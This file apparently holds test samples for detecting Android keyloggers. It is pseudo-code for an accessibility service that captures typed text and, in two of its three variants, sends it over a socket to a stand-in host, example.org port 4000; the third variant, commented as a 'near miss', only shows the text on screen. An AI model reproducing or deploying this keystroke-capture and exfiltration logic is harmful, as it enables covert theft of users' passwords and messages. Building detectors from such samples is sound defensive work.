permissions("INTERNET")

@service(permission="BIND_ACCESSIBILITY_SERVICE", actions=["android.accessibilityservice.AccessibilityService"])
class Keys(AccessibilityService):
    line: StringBuilder
    def onAccessibilityEvent(self, event):
        if event.getEventType() == 16:
            self.typed(String.valueOf(event.getText()))
    def onInterrupt(self):
        pass
    def typed(self, text: String):
        out = Socket("example.org", 4000).getOutputStream()
        out.write(text.getBytes())

# near miss: shows the text on the screen
@service(permission="BIND_ACCESSIBILITY_SERVICE", actions=["android.accessibilityservice.AccessibilityService"])
class Keys(AccessibilityService):
    line: StringBuilder
    def onAccessibilityEvent(self, event):
        if event.getEventType() == 16:
            self.typed(String.valueOf(event.getText()))
    def onInterrupt(self):
        pass
    def typed(self, text: String):
        Toast.makeText(self, text, 1).show()
        Socket("example.org", 4000).getOutputStream().flush()

# also: collects in a field and sends from a timer
@service(permission="BIND_ACCESSIBILITY_SERVICE", actions=["android.accessibilityservice.AccessibilityService"])
class Keys(AccessibilityService):
    line: StringBuilder
    def onServiceConnected(self):
        self.line = StringBuilder()
    def onAccessibilityEvent(self, event):
        self.line.append(String.valueOf(event.getText()))
        Thread(Send(self.line.toString())).start()
    def onInterrupt(self):
        pass

class Send(Runnable):
    text: String
    def __init__(self, text: String):
        self.text = text
    def run(self):
        Socket("example.org", 4000).getOutputStream().write(self.text.getBytes())
